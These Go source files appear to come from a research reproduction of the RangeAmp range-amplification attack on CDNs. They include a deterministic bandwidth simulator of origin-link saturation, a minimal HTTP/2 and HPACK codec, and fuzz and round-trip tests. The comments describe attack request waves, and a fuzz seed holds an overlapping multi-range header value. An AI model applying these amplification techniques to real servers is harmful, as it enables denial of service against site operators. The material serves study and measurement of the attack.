