// Package bwsim is the virtual-time fluid bandwidth simulator behind
// the Fig 7 practicability experiment. The paper saturates a real
// 1000 Mbps origin uplink with m concurrent SBR request waves per
// second for 30 seconds; the figure's shape — client incoming traffic
// flat and tiny, origin outgoing traffic proportional to m until the
// link saturates around m≈11-14 — is a property of link sharing, which
// a deterministic fluid model reproduces in milliseconds.
//
// Since the vtime engine landed, the simulation runs as a
// discrete-event program: arrivals, integration ticks and sampling
// instants are events on a vtime.Scheduler, and the link-sharing
// discipline itself is vtime.FluidLink — the same fluid model the
// event-driven flood engine exposes. The arithmetic is unchanged
// operation for operation, so the Fig 7 goldens are byte-identical to
// the original closed-loop integration.
package bwsim

import (
	"context"
	"math"
	"time"

	"repro/internal/vtime"
)

// Config parameterizes one bandwidth run.
type Config struct {
	// LinkBitsPerSec is the origin's outgoing link capacity
	// (1e9 for the paper's 1000 Mbps server).
	LinkBitsPerSec float64

	// PerRequestOriginBytes is the payload the origin must ship per
	// attack request (the full resource under the Deletion policy).
	PerRequestOriginBytes int64

	// PerRequestClientBytes is what the attacker receives per request
	// (a few hundred bytes of 206).
	PerRequestClientBytes int64

	// RequestsPerSecond is the paper's m: new attack requests arriving
	// at each whole second.
	RequestsPerSecond int

	// DurationSec is the attack duration (30 in the paper). Sampling
	// continues afterwards until the backlog drains or 4x the duration
	// elapses.
	DurationSec int

	// WireOverheadFactor inflates payload bytes to on-the-wire bytes
	// (TCP/IP framing ≈ 1.027 for 1500-byte MTUs). Zero means 1.027.
	WireOverheadFactor float64

	// TickMs is the integration step. Zero means 100 ms.
	TickMs int
}

// Sample is one per-second observation, matching Fig 7's axes.
type Sample struct {
	Second         int
	OriginOutMbps  float64 // outgoing bandwidth consumption of the origin (Fig 7b)
	ClientInKbps   float64 // incoming bandwidth consumption of the client (Fig 7a)
	ActiveFlows    int     // in-flight transfers at the end of the second
	CompletedFlows int     // transfers finished within the second
}

const (
	defaultOverhead = 1.027
	defaultTickMs   = 100
)

// Run simulates the attack and returns one sample per second.
func Run(cfg Config) []Sample {
	overhead := cfg.WireOverheadFactor
	if overhead <= 0 {
		overhead = defaultOverhead
	}
	tickMs := cfg.TickMs
	if tickMs <= 0 {
		tickMs = defaultTickMs
	}
	dt := float64(tickMs) / 1000.0
	perFlowBytes := float64(cfg.PerRequestOriginBytes) * overhead

	var (
		link        = &vtime.FluidLink{CapBytesPerSec: cfg.LinkBitsPerSec / 8.0}
		sched       = vtime.NewScheduler()
		samples     []Sample
		maxSeconds  = cfg.DurationSec * 4
		ticksPerSec = int(math.Round(1000.0 / float64(tickMs)))
		tick        = time.Duration(tickMs) * time.Millisecond
	)
	if maxSeconds < cfg.DurationSec+1 {
		maxSeconds = cfg.DurationSec + 1
	}

	// Each simulated second is an event cascade: the arrival burst at
	// the second's start, ticksPerSec integration steps, and a sampling
	// instant at the second's end that decides whether the next second
	// runs. Events at equal instants run in scheduling order, so the
	// final tick of a second always integrates before its sample.
	var runSecond func(sec int)
	runSecond = func(sec int) {
		if sec < cfg.DurationSec {
			for i := 0; i < cfg.RequestsPerSecond; i++ {
				link.Offer(perFlowBytes)
			}
		}
		for t := 1; t <= ticksPerSec; t++ {
			sched.After(time.Duration(t)*tick, func() { link.Tick(dt) })
		}
		sched.After(time.Duration(ticksPerSec)*tick, func() {
			sent, done := link.Drain()
			samples = append(samples, Sample{
				Second:         sec,
				OriginOutMbps:  sent * 8 / 1e6,
				ClientInKbps:   float64(done) * float64(cfg.PerRequestClientBytes) * overhead * 8 / 1e3,
				ActiveFlows:    link.Active(),
				CompletedFlows: done,
			})
			if sec+1 < maxSeconds && !(sec >= cfg.DurationSec && link.Active() == 0) {
				runSecond(sec + 1)
			}
		})
	}
	runSecond(0)
	sched.Run(context.Background()) // background ctx: cannot cancel, always drains

	return samples
}

// PeakOriginMbps returns the largest per-second origin consumption.
func PeakOriginMbps(samples []Sample) float64 {
	peak := 0.0
	for _, s := range samples {
		if s.OriginOutMbps > peak {
			peak = s.OriginOutMbps
		}
	}
	return peak
}

// SteadyOriginMbps averages origin consumption over the middle of the
// attack window (seconds [D/3, 2D/3)), where the paper reads its
// "almost proportional to m" values.
func SteadyOriginMbps(samples []Sample, durationSec int) float64 {
	lo, hi := durationSec/3, 2*durationSec/3
	sum, n := 0.0, 0
	for _, s := range samples {
		if s.Second >= lo && s.Second < hi {
			sum += s.OriginOutMbps
			n++
		}
	}
	if n == 0 {
		return 0
	}
	return sum / float64(n)
}

// Saturated reports whether the link ran at (or above) frac of capacity
// during the steady window.
func Saturated(samples []Sample, cfg Config, frac float64) bool {
	return SteadyOriginMbps(samples, cfg.DurationSec) >= frac*cfg.LinkBitsPerSec/1e6
}
