package h2

import (
	"fmt"
	"strings"
)

// HPACK (RFC 7541) subset: the full static table, Huffman string
// coding (Appendix B), and a zero-size dynamic table (both peers
// announce SETTINGS_HEADER_TABLE_SIZE=0, so indexed references beyond
// the static table are protocol errors and incremental indexing
// degrades to plain literals). The codec stays byte-deterministic for
// traffic accounting.

// HeaderField is one decoded header (pseudo-headers included).
type HeaderField struct {
	Name  string
	Value string
}

// staticTable is RFC 7541 Appendix A (1-indexed).
var staticTable = []HeaderField{
	{":authority", ""},
	{":method", "GET"},
	{":method", "POST"},
	{":path", "/"},
	{":path", "/index.html"},
	{":scheme", "http"},
	{":scheme", "https"},
	{":status", "200"},
	{":status", "204"},
	{":status", "206"},
	{":status", "304"},
	{":status", "400"},
	{":status", "404"},
	{":status", "500"},
	{"accept-charset", ""},
	{"accept-encoding", "gzip, deflate"},
	{"accept-language", ""},
	{"accept-ranges", ""},
	{"accept", ""},
	{"access-control-allow-origin", ""},
	{"age", ""},
	{"allow", ""},
	{"authorization", ""},
	{"cache-control", ""},
	{"content-disposition", ""},
	{"content-encoding", ""},
	{"content-language", ""},
	{"content-length", ""},
	{"content-location", ""},
	{"content-range", ""},
	{"content-type", ""},
	{"cookie", ""},
	{"date", ""},
	{"etag", ""},
	{"expect", ""},
	{"expires", ""},
	{"from", ""},
	{"host", ""},
	{"if-match", ""},
	{"if-modified-since", ""},
	{"if-none-match", ""},
	{"if-range", ""},
	{"if-unmodified-since", ""},
	{"last-modified", ""},
	{"link", ""},
	{"location", ""},
	{"max-forwards", ""},
	{"proxy-authenticate", ""},
	{"proxy-authorization", ""},
	{"range", ""},
	{"referer", ""},
	{"refresh", ""},
	{"retry-after", ""},
	{"server", ""},
	{"set-cookie", ""},
	{"strict-transport-security", ""},
	{"transfer-encoding", ""},
	{"user-agent", ""},
	{"vary", ""},
	{"via", ""},
	{"www-authenticate", ""},
}

// staticExact maps "name\x00value" to its static index.
var staticExact = func() map[string]int {
	m := make(map[string]int, len(staticTable))
	for i, f := range staticTable {
		key := f.Name + "\x00" + f.Value
		if _, exists := m[key]; !exists {
			m[key] = i + 1
		}
	}
	return m
}()

// staticName maps a name to the first static index bearing it.
var staticName = func() map[string]int {
	m := make(map[string]int, len(staticTable))
	for i, f := range staticTable {
		if _, exists := m[f.Name]; !exists {
			m[f.Name] = i + 1
		}
	}
	return m
}()

// EncodeHeaderBlock serializes fields as an HPACK header block.
func EncodeHeaderBlock(fields []HeaderField) []byte {
	var out []byte
	for _, f := range fields {
		name := strings.ToLower(f.Name)
		if idx, ok := staticExact[name+"\x00"+f.Value]; ok {
			out = appendInt(out, 7, 0x80, uint64(idx)) // indexed field
			continue
		}
		if idx, ok := staticName[name]; ok {
			out = appendInt(out, 4, 0x00, uint64(idx)) // literal, indexed name
			out = appendString(out, f.Value)
			continue
		}
		out = appendInt(out, 4, 0x00, 0) // literal, new name
		out = appendString(out, name)
		out = appendString(out, f.Value)
	}
	return out
}

// DecodeHeaderBlock parses an HPACK header block.
func DecodeHeaderBlock(block []byte) ([]HeaderField, error) {
	var fields []HeaderField
	for len(block) > 0 {
		b := block[0]
		switch {
		case b&0x80 != 0: // indexed header field
			idx, rest, err := readInt(block, 7)
			if err != nil {
				return nil, err
			}
			block = rest
			f, err := staticField(idx)
			if err != nil {
				return nil, err
			}
			fields = append(fields, f)
		case b&0xc0 == 0x40: // literal with incremental indexing
			f, rest, err := readLiteral(block, 6)
			if err != nil {
				return nil, err
			}
			block = rest
			fields = append(fields, f) // zero-size table: nothing to add
		case b&0xe0 == 0x20: // dynamic table size update
			size, rest, err := readInt(block, 5)
			if err != nil {
				return nil, err
			}
			if size > 4096 {
				return nil, fmt.Errorf("%w: table size update %d", ErrHPACK, size)
			}
			block = rest
		case b&0xf0 == 0x10: // literal never indexed
			f, rest, err := readLiteral(block, 4)
			if err != nil {
				return nil, err
			}
			block = rest
			fields = append(fields, f)
		default: // 0000 xxxx: literal without indexing
			f, rest, err := readLiteral(block, 4)
			if err != nil {
				return nil, err
			}
			block = rest
			fields = append(fields, f)
		}
	}
	return fields, nil
}

func staticField(idx uint64) (HeaderField, error) {
	if idx == 0 || idx > uint64(len(staticTable)) {
		return HeaderField{}, fmt.Errorf("%w: index %d outside the static table (dynamic table size is 0)", ErrHPACK, idx)
	}
	return staticTable[idx-1], nil
}

func readLiteral(block []byte, prefix int) (HeaderField, []byte, error) {
	idx, rest, err := readInt(block, prefix)
	if err != nil {
		return HeaderField{}, nil, err
	}
	var f HeaderField
	if idx > 0 {
		ref, err := staticField(idx)
		if err != nil {
			return HeaderField{}, nil, err
		}
		f.Name = ref.Name
	} else {
		f.Name, rest, err = readString(rest)
		if err != nil {
			return HeaderField{}, nil, err
		}
	}
	f.Value, rest, err = readString(rest)
	if err != nil {
		return HeaderField{}, nil, err
	}
	return f, rest, nil
}

// appendInt encodes an HPACK prefixed integer (RFC 7541 §5.1) with the
// given pattern bits in the first byte.
func appendInt(out []byte, prefix int, pattern byte, v uint64) []byte {
	maxPrefix := uint64(1)<<prefix - 1
	if v < maxPrefix {
		return append(out, pattern|byte(v))
	}
	out = append(out, pattern|byte(maxPrefix))
	v -= maxPrefix
	for v >= 128 {
		out = append(out, byte(v&0x7f)|0x80)
		v >>= 7
	}
	return append(out, byte(v))
}

func readInt(block []byte, prefix int) (uint64, []byte, error) {
	if len(block) == 0 {
		return 0, nil, fmt.Errorf("%w: truncated integer", ErrHPACK)
	}
	maxPrefix := uint64(1)<<prefix - 1
	v := uint64(block[0]) & maxPrefix
	block = block[1:]
	if v < maxPrefix {
		return v, block, nil
	}
	shift := 0
	for {
		if len(block) == 0 {
			return 0, nil, fmt.Errorf("%w: truncated varint", ErrHPACK)
		}
		if shift > 56 {
			return 0, nil, fmt.Errorf("%w: integer overflow", ErrHPACK)
		}
		b := block[0]
		block = block[1:]
		v += uint64(b&0x7f) << shift
		if b&0x80 == 0 {
			return v, block, nil
		}
		shift += 7
	}
}

// appendString encodes a string literal, Huffman-coded whenever that
// is shorter than the raw form (RFC 7541 §5.2).
func appendString(out []byte, s string) []byte {
	if hlen := huffmanEncodedLen(s); hlen < len(s) {
		out = appendInt(out, 7, 0x80, uint64(hlen))
		return appendHuffman(out, s)
	}
	out = appendInt(out, 7, 0x00, uint64(len(s)))
	return append(out, s...)
}

func readString(block []byte) (string, []byte, error) {
	if len(block) == 0 {
		return "", nil, fmt.Errorf("%w: truncated string", ErrHPACK)
	}
	huffman := block[0]&0x80 != 0
	n, rest, err := readInt(block, 7)
	if err != nil {
		return "", nil, err
	}
	if uint64(len(rest)) < n {
		return "", nil, fmt.Errorf("%w: string length %d exceeds block", ErrHPACK, n)
	}
	raw, rest := rest[:n], rest[n:]
	if huffman {
		decoded, err := decodeHuffman(raw)
		if err != nil {
			return "", nil, err
		}
		return decoded, rest, nil
	}
	return string(raw), rest, nil
}
