package h2

import (
	"bufio"
	"fmt"
	"io"

	"repro/internal/httpwire"
	"repro/internal/netsim"
)

// ClientConn is an HTTP/2 client connection supporting sequential
// requests (one in-flight stream at a time, which is what the attack
// clients and experiments need).
type ClientConn struct {
	rw     netsim.Conn
	br     *bufio.Reader
	snd    *sender
	nextID uint32
	closed bool
}

// NewClientConn performs the client preface and settings exchange.
func NewClientConn(rw netsim.Conn) (*ClientConn, error) {
	c := &ClientConn{rw: rw, br: bufio.NewReader(rw), snd: newSender(rw), nextID: 1}
	if _, err := io.WriteString(rw, Preface); err != nil {
		return nil, fmt.Errorf("h2: write preface: %w", err)
	}
	if err := c.snd.writeFrame(Frame{Type: FrameSettings, Payload: EncodeSettings(ourSettings())}); err != nil {
		return nil, err
	}
	return c, nil
}

// Close tears the connection down.
func (c *ClientConn) Close() error {
	if c.closed {
		return nil
	}
	c.closed = true
	c.snd.writeFrame(Frame{Type: FrameGoAway, Payload: EncodeGoAway(0, ErrCodeNo)}) //nolint:errcheck
	c.snd.kill()
	return c.rw.Close()
}

// Fetch sends one request and reads its complete response, processing
// connection-level frames (SETTINGS, PING, WINDOW_UPDATE) inline.
func (c *ClientConn) Fetch(req *httpwire.Request) (*httpwire.Response, error) {
	if c.closed {
		return nil, ErrGoAway
	}
	id := c.nextID
	c.nextID += 2
	c.snd.openStream(id)
	defer c.snd.closeStream(id)

	block := EncodeHeaderBlock(fieldsFromRequest(req))
	flags := FlagEndHeaders
	if len(req.Body) == 0 {
		flags |= FlagEndStream
	}
	if err := c.snd.writeFrame(Frame{Type: FrameHeaders, Flags: flags, StreamID: id, Payload: block}); err != nil {
		return nil, err
	}
	if len(req.Body) > 0 {
		if err := c.snd.sendData(id, req.Body); err != nil {
			return nil, err
		}
	}

	var (
		fields     []HeaderField
		body       []byte
		haveFields bool
		headerBuf  []byte
		headerOpen bool
	)
	for {
		f, err := ReadFrame(c.br)
		if err != nil {
			return nil, fmt.Errorf("h2: read frame: %w", err)
		}
		switch f.Type {
		case FrameSettings:
			if f.Flags&FlagAck != 0 {
				continue
			}
			if err := applyPeerSettings(c.snd, f.Payload); err != nil {
				return nil, err
			}
			if err := c.snd.writeFrame(Frame{Type: FrameSettings, Flags: FlagAck}); err != nil {
				return nil, err
			}
		case FramePing:
			if f.Flags&FlagAck == 0 {
				if err := c.snd.writeFrame(Frame{Type: FramePing, Flags: FlagAck, Payload: f.Payload}); err != nil {
					return nil, err
				}
			}
		case FrameWindowUpdate:
			inc, err := DecodeWindowUpdate(f.Payload)
			if err != nil {
				return nil, err
			}
			if f.StreamID == 0 {
				c.snd.addConnWindow(int64(inc))
			} else {
				c.snd.addStreamWindow(f.StreamID, int64(inc))
			}
		case FrameGoAway:
			return nil, ErrGoAway
		case FrameHeaders:
			if f.StreamID != id {
				return nil, fmt.Errorf("%w: HEADERS on stream %d", ErrProtocol, f.StreamID)
			}
			payload, err := unpad(f)
			if err != nil {
				return nil, err
			}
			headerBuf = append([]byte(nil), payload...)
			headerOpen = f.Flags&FlagEndHeaders == 0
			if !headerOpen {
				fields, err = DecodeHeaderBlock(headerBuf)
				if err != nil {
					return nil, err
				}
				haveFields = true
			}
			if f.Flags&FlagEndStream != 0 && haveFields {
				return responseFromFields(fields, body)
			}
		case FrameContinuation:
			if f.StreamID != id || !headerOpen {
				return nil, fmt.Errorf("%w: unexpected CONTINUATION", ErrProtocol)
			}
			headerBuf = append(headerBuf, f.Payload...)
			if f.Flags&FlagEndHeaders != 0 {
				headerOpen = false
				var err error
				fields, err = DecodeHeaderBlock(headerBuf)
				if err != nil {
					return nil, err
				}
				haveFields = true
			}
		case FrameData:
			if f.StreamID != id {
				continue
			}
			data, err := unpad(f)
			if err != nil {
				return nil, err
			}
			body = append(body, data...)
			// Keep the server's send windows replenished so multi-MB OBR
			// responses stream without stalling.
			if len(data) > 0 {
				inc := EncodeWindowUpdate(uint32(len(data)))
				if err := c.snd.writeFrame(Frame{Type: FrameWindowUpdate, Payload: inc}); err != nil {
					return nil, err
				}
				if err := c.snd.writeFrame(Frame{Type: FrameWindowUpdate, StreamID: id, Payload: inc}); err != nil {
					return nil, err
				}
			}
			if f.Flags&FlagEndStream != 0 {
				if !haveFields {
					return nil, fmt.Errorf("%w: DATA before HEADERS", ErrProtocol)
				}
				return responseFromFields(fields, body)
			}
		case FrameRSTStream:
			if f.StreamID == id {
				return nil, ErrStreamClosed
			}
		default:
			// ignore priority/push/unknown
		}
	}
}

// Fetch dials nothing: it is a convenience for one request over an
// existing connection, closing it afterwards.
func Fetch(rw netsim.Conn, req *httpwire.Request) (*httpwire.Response, error) {
	c, err := NewClientConn(rw)
	if err != nil {
		rw.Close()
		return nil, err
	}
	defer c.Close()
	return c.Fetch(req)
}
