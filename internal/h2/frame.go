// Package h2 is a minimal HTTP/2 (RFC 7540) implementation — enough of
// the protocol to demonstrate the paper's §VI-B observation that "the
// RangeAmp threats in HTTP/1.1 are also applicable to HTTP/2": RFC 7540
// §8.1.2 carries the Range header through unchanged semantics, so an
// edge that strips or expands ranges amplifies identically whichever
// protocol version the attacker speaks (and HPACK makes the attacker's
// requests *cheaper*, slightly raising the factor).
//
// Scope: connection preface, SETTINGS/PING/GOAWAY/WINDOW_UPDATE
// handling, HEADERS(+CONTINUATION)/DATA streams with real flow control,
// and an HPACK subset (full static table, raw-literal encoding, no
// dynamic table — each side announces SETTINGS_HEADER_TABLE_SIZE=0).
// Server push and stream prioritisation are not implemented.
package h2

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
)

// Frame types (RFC 7540 §6).
const (
	FrameData         uint8 = 0x0
	FrameHeaders      uint8 = 0x1
	FramePriority     uint8 = 0x2
	FrameRSTStream    uint8 = 0x3
	FrameSettings     uint8 = 0x4
	FramePushPromise  uint8 = 0x5
	FramePing         uint8 = 0x6
	FrameGoAway       uint8 = 0x7
	FrameWindowUpdate uint8 = 0x8
	FrameContinuation uint8 = 0x9
)

// Frame flags.
const (
	FlagEndStream  uint8 = 0x1 // DATA, HEADERS
	FlagAck        uint8 = 0x1 // SETTINGS, PING
	FlagEndHeaders uint8 = 0x4 // HEADERS, CONTINUATION
	FlagPadded     uint8 = 0x8
	FlagPriority   uint8 = 0x20
)

// Settings identifiers (RFC 7540 §6.5.2).
const (
	SettingHeaderTableSize   uint16 = 0x1
	SettingEnablePush        uint16 = 0x2
	SettingMaxConcurrent     uint16 = 0x3
	SettingInitialWindowSize uint16 = 0x4
	SettingMaxFrameSize      uint16 = 0x5
	SettingMaxHeaderListSize uint16 = 0x6
)

// Protocol constants.
const (
	// Preface is the client connection preface (RFC 7540 §3.5).
	Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	// DefaultMaxFrameSize is the initial SETTINGS_MAX_FRAME_SIZE.
	DefaultMaxFrameSize = 16384

	// DefaultWindow is the initial flow-control window (§6.9.2).
	DefaultWindow = 65535

	frameHeaderLen = 9
	maxFrameSize   = 1 << 20 // reading bound; we never announce above default
)

// Errors.
var (
	ErrFrameTooLarge  = errors.New("h2: frame exceeds size bound")
	ErrBadPreface     = errors.New("h2: bad connection preface")
	ErrProtocol       = errors.New("h2: protocol error")
	ErrStreamClosed   = errors.New("h2: stream closed")
	ErrGoAway         = errors.New("h2: connection is going away")
	ErrFlowControl    = errors.New("h2: flow-control violation")
	ErrHPACK          = errors.New("h2: hpack decoding error")
	ErrUnsupported    = errors.New("h2: unsupported protocol feature")
	ErrHeaderSemantic = errors.New("h2: malformed header block semantics")
)

// Frame is one wire frame.
type Frame struct {
	Type     uint8
	Flags    uint8
	StreamID uint32
	Payload  []byte
}

// WriteFrame serializes one frame.
func WriteFrame(w io.Writer, f Frame) error {
	if len(f.Payload) > maxFrameSize {
		return ErrFrameTooLarge
	}
	var hdr [frameHeaderLen]byte
	hdr[0] = byte(len(f.Payload) >> 16)
	hdr[1] = byte(len(f.Payload) >> 8)
	hdr[2] = byte(len(f.Payload))
	hdr[3] = f.Type
	hdr[4] = f.Flags
	binary.BigEndian.PutUint32(hdr[5:], f.StreamID&0x7fffffff)
	if _, err := w.Write(hdr[:]); err != nil {
		return err
	}
	if len(f.Payload) > 0 {
		if _, err := w.Write(f.Payload); err != nil {
			return err
		}
	}
	return nil
}

// ReadFrame parses one frame.
func ReadFrame(r io.Reader) (Frame, error) {
	var hdr [frameHeaderLen]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return Frame{}, err
	}
	length := int(hdr[0])<<16 | int(hdr[1])<<8 | int(hdr[2])
	if length > maxFrameSize {
		return Frame{}, fmt.Errorf("%w: %d bytes", ErrFrameTooLarge, length)
	}
	f := Frame{
		Type:     hdr[3],
		Flags:    hdr[4],
		StreamID: binary.BigEndian.Uint32(hdr[5:]) & 0x7fffffff,
	}
	if length > 0 {
		f.Payload = make([]byte, length)
		if _, err := io.ReadFull(r, f.Payload); err != nil {
			return Frame{}, err
		}
	}
	return f, nil
}

// Setting is one SETTINGS parameter.
type Setting struct {
	ID    uint16
	Value uint32
}

// EncodeSettings builds a SETTINGS payload.
func EncodeSettings(settings []Setting) []byte {
	out := make([]byte, 0, len(settings)*6)
	for _, s := range settings {
		var buf [6]byte
		binary.BigEndian.PutUint16(buf[0:], s.ID)
		binary.BigEndian.PutUint32(buf[2:], s.Value)
		out = append(out, buf[:]...)
	}
	return out
}

// DecodeSettings parses a SETTINGS payload.
func DecodeSettings(payload []byte) ([]Setting, error) {
	if len(payload)%6 != 0 {
		return nil, fmt.Errorf("%w: settings length %d", ErrProtocol, len(payload))
	}
	out := make([]Setting, 0, len(payload)/6)
	for off := 0; off < len(payload); off += 6 {
		out = append(out, Setting{
			ID:    binary.BigEndian.Uint16(payload[off:]),
			Value: binary.BigEndian.Uint32(payload[off+2:]),
		})
	}
	return out, nil
}

// EncodeWindowUpdate builds a WINDOW_UPDATE payload.
func EncodeWindowUpdate(increment uint32) []byte {
	var buf [4]byte
	binary.BigEndian.PutUint32(buf[:], increment&0x7fffffff)
	return buf[:]
}

// DecodeWindowUpdate parses a WINDOW_UPDATE payload.
func DecodeWindowUpdate(payload []byte) (uint32, error) {
	if len(payload) != 4 {
		return 0, fmt.Errorf("%w: window update length %d", ErrProtocol, len(payload))
	}
	inc := binary.BigEndian.Uint32(payload) & 0x7fffffff
	if inc == 0 {
		return 0, fmt.Errorf("%w: zero window increment", ErrProtocol)
	}
	return inc, nil
}

// EncodeGoAway builds a GOAWAY payload.
func EncodeGoAway(lastStreamID, errorCode uint32) []byte {
	var buf [8]byte
	binary.BigEndian.PutUint32(buf[0:], lastStreamID&0x7fffffff)
	binary.BigEndian.PutUint32(buf[4:], errorCode)
	return buf[:]
}

// EncodeRSTStream builds an RST_STREAM payload.
func EncodeRSTStream(errorCode uint32) []byte {
	var buf [4]byte
	binary.BigEndian.PutUint32(buf[:], errorCode)
	return buf[:]
}

// Error codes (RFC 7540 §7).
const (
	ErrCodeNo              uint32 = 0x0
	ErrCodeProtocol        uint32 = 0x1
	ErrCodeInternal        uint32 = 0x2
	ErrCodeFlowControl     uint32 = 0x3
	ErrCodeRefusedStream   uint32 = 0x7
	ErrCodeEnhanceYourCalm uint32 = 0xb
)
