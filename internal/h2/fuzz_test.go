package h2

import (
	"bytes"
	"testing"
)

func FuzzDecodeHeaderBlock(f *testing.F) {
	f.Add(EncodeHeaderBlock([]HeaderField{{":method", "GET"}, {":path", "/"}}))
	f.Add(EncodeHeaderBlock([]HeaderField{
		{":method", "GET"}, {":path", "/f?cb=1"}, {":authority", "h"},
		{"range", "bytes=0-0"}, {"x-custom", "value"},
	}))
	f.Add([]byte{0x82})
	f.Add([]byte{0x80})
	f.Add([]byte{0x40, 0x01, 'a', 0x01, 'b'})
	f.Add([]byte{0x20})
	f.Fuzz(func(t *testing.T, block []byte) {
		fields, err := DecodeHeaderBlock(block)
		if err != nil {
			return
		}
		// Accepted blocks must re-encode to something decodable with the
		// same fields (encoding normalizes names to lowercase, which the
		// decoder only ever produces anyway for static matches; literal
		// names pass through, so compare case-insensitively via re-decode).
		again, err := DecodeHeaderBlock(EncodeHeaderBlock(fields))
		if err != nil {
			t.Fatalf("re-decode failed: %v", err)
		}
		if len(again) != len(fields) {
			t.Fatalf("field count changed: %d -> %d", len(fields), len(again))
		}
		for i := range fields {
			if again[i].Value != fields[i].Value {
				t.Fatalf("value %d changed: %q -> %q", i, fields[i].Value, again[i].Value)
			}
		}
	})
}

func FuzzHuffman(f *testing.F) {
	f.Add([]byte("www.example.com"))
	f.Add([]byte{})
	f.Add([]byte{0x00, 0xff, 0x80})
	f.Add([]byte("bytes=0-,0-,0-"))
	f.Fuzz(func(t *testing.T, data []byte) {
		s := string(data)
		enc := appendHuffman(nil, s)
		if len(enc) != huffmanEncodedLen(s) {
			t.Fatalf("length prediction off: %d vs %d", len(enc), huffmanEncodedLen(s))
		}
		got, err := decodeHuffman(enc)
		if err != nil {
			t.Fatalf("decode of own coding failed: %v", err)
		}
		if got != s {
			t.Fatalf("round trip changed %q -> %q", s, got)
		}
	})
}

func FuzzDecodeHuffmanArbitrary(f *testing.F) {
	f.Add([]byte{0xff, 0xff})
	f.Add([]byte{0x00})
	f.Add(appendHuffman(nil, "hello"))
	f.Fuzz(func(t *testing.T, data []byte) {
		// Must never panic; accepted inputs must re-encode within the
		// same byte budget's worth of symbols.
		s, err := decodeHuffman(data)
		if err != nil {
			return
		}
		if len(s) > len(data)*2 {
			t.Fatalf("decoded %d symbols from %d bytes (min code is 5 bits)", len(s), len(data))
		}
	})
}

func FuzzReadFrame(f *testing.F) {
	var buf bytes.Buffer
	WriteFrame(&buf, Frame{Type: FrameSettings, Payload: EncodeSettings(ourSettings())})
	f.Add(buf.Bytes())
	f.Add([]byte{0, 0, 0, 4, 1, 0, 0, 0, 0})
	f.Fuzz(func(t *testing.T, data []byte) {
		fr, err := ReadFrame(bytes.NewReader(data))
		if err != nil {
			return
		}
		var out bytes.Buffer
		if err := WriteFrame(&out, fr); err != nil {
			t.Fatalf("re-write failed: %v", err)
		}
		again, err := ReadFrame(&out)
		if err != nil {
			t.Fatalf("re-read failed: %v", err)
		}
		if again.Type != fr.Type || again.Flags != fr.Flags || again.StreamID != fr.StreamID ||
			!bytes.Equal(again.Payload, fr.Payload) {
			t.Fatal("frame round trip changed")
		}
	})
}
