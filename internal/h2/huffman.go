package h2

import (
	"fmt"
	"strings"
)

// HPACK Huffman coding (RFC 7541 §5.2 and Appendix B). The encoder is
// used whenever the coded form is shorter than the raw literal; the
// decoder walks a binary trie built once from the code table.

// huffmanEncodedLen returns the byte length of the Huffman coding of s.
func huffmanEncodedLen(s string) int {
	bits := 0
	for i := 0; i < len(s); i++ {
		bits += int(huffmanCodeLen[s[i]])
	}
	return (bits + 7) / 8
}

// appendHuffman appends the Huffman coding of s, padding the final
// partial byte with the EOS prefix (all ones) per §5.2.
func appendHuffman(out []byte, s string) []byte {
	var (
		acc  uint64
		nbit uint
	)
	for i := 0; i < len(s); i++ {
		b := s[i]
		acc = acc<<huffmanCodeLen[b] | uint64(huffmanCodes[b])
		nbit += uint(huffmanCodeLen[b])
		for nbit >= 8 {
			nbit -= 8
			out = append(out, byte(acc>>nbit))
		}
	}
	if nbit > 0 {
		pad := 8 - nbit
		out = append(out, byte(acc<<pad)|byte(1<<pad-1))
	}
	return out
}

// huffNode is one trie node; leaves carry the decoded symbol.
type huffNode struct {
	children [2]*huffNode
	sym      byte
	leaf     bool
}

// huffRoot is the decoding trie, built once at package init from the
// RFC table (a deterministic pure computation, the init-safe kind).
var huffRoot = buildHuffTree()

func buildHuffTree() *huffNode {
	root := &huffNode{}
	for sym := 0; sym < 256; sym++ {
		code := huffmanCodes[sym]
		length := int(huffmanCodeLen[sym])
		node := root
		for bit := length - 1; bit >= 0; bit-- {
			b := (code >> uint(bit)) & 1
			if node.children[b] == nil {
				node.children[b] = &huffNode{}
			}
			node = node.children[b]
		}
		node.sym = byte(sym)
		node.leaf = true
	}
	return root
}

// decodeHuffman decodes a Huffman-coded string literal. Trailing bits
// must be a (shorter-than-8-bit) prefix of EOS, i.e. all ones.
func decodeHuffman(data []byte) (string, error) {
	var b strings.Builder
	node := huffRoot
	bitsSinceSym := 0 // bits consumed since the last decoded symbol
	allOnes := true   // those bits are all 1s (a valid EOS-prefix padding)
	for _, octet := range data {
		for bit := 7; bit >= 0; bit-- {
			v := (octet >> uint(bit)) & 1
			bitsSinceSym++
			if v == 0 {
				allOnes = false
			}
			node = node.children[v]
			if node == nil {
				return "", fmt.Errorf("%w: invalid Huffman code", ErrHPACK)
			}
			if node.leaf {
				b.WriteByte(node.sym)
				node = huffRoot
				bitsSinceSym = 0
				allOnes = true
			}
		}
	}
	// §5.2: the final partial symbol must be a strict EOS prefix — at
	// most 7 bits, all ones.
	if node != huffRoot && (!allOnes || bitsSinceSym > 7) {
		return "", fmt.Errorf("%w: invalid Huffman padding", ErrHPACK)
	}
	return b.String(), nil
}
