package h2

import (
	"bytes"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/httpwire"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/resource"
)

func TestFrameRoundTrip(t *testing.T) {
	frames := []Frame{
		{Type: FrameSettings, Payload: EncodeSettings(ourSettings())},
		{Type: FrameHeaders, Flags: FlagEndHeaders | FlagEndStream, StreamID: 1, Payload: []byte{0x82}},
		{Type: FrameData, Flags: FlagEndStream, StreamID: 3, Payload: bytes.Repeat([]byte{0xab}, 100)},
		{Type: FramePing, Flags: FlagAck, Payload: make([]byte, 8)},
		{Type: FrameGoAway, Payload: EncodeGoAway(5, ErrCodeNo)},
		{Type: FrameWindowUpdate, StreamID: 7, Payload: EncodeWindowUpdate(1 << 20)},
	}
	var buf bytes.Buffer
	for _, f := range frames {
		if err := WriteFrame(&buf, f); err != nil {
			t.Fatal(err)
		}
	}
	for i, want := range frames {
		got, err := ReadFrame(&buf)
		if err != nil {
			t.Fatalf("frame %d: %v", i, err)
		}
		if got.Type != want.Type || got.Flags != want.Flags || got.StreamID != want.StreamID ||
			!bytes.Equal(got.Payload, want.Payload) {
			t.Fatalf("frame %d = %+v, want %+v", i, got, want)
		}
	}
}

